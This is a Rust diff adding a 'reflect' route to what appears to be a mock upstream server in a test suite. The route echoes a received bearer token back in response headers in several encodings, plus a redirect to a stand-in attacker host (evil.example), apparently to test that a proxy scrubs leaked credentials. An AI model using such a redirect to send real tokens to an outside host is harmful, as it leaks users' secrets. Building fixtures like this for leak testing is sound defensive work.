@@ -162,6 +162,28 @@ async fn handle(state: Arc<Mutex<UpState>>, req: Request<Incoming>) -> Response<
             serde_json::json!({"data":[{"id":"kimi-for-coding","context_length":262144}]}),
         ),
         "echo" => full(200, body, "application/octet-stream"),
+        // A reflecting server: the bearer token it was sent comes back in response headers,
+        // raw, percent- and base64-encoded (a redirect included).
+        "reflect" => {
+            use base64::Engine as _;
+            let mut r = json(302, serde_json::json!({"reflected": true}));
+            let pct =
+                percent_encoding::utf8_percent_encode(&token, percent_encoding::NON_ALPHANUMERIC)
+                    .to_string();
+            let b64 = base64::engine::general_purpose::STANDARD.encode(format!("u:{token}"));
+            let b64url = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&token);
+            for (name, value) in [
+                ("location", format!("https://evil.example/cb?t={token}")),
+                ("x-echo-auth", format!("Bearer {token}")),
+                ("x-pct", format!("t={pct}")),
+                ("x-b64", format!("Basic {b64}")),
+                ("x-b64url", b64url),
+                ("x-request-id", "req-kept-0123".to_owned()),
+            ] {
+                r.headers_mut().append(name, value.parse().unwrap());
+            }
+            r
+        }
         "big" => {
             let n = query(&parts.uri, "bytes").unwrap_or(0) as usize;
             let data: Vec<u8> = (0..n).map(|i| (i % 251) as u8).collect();
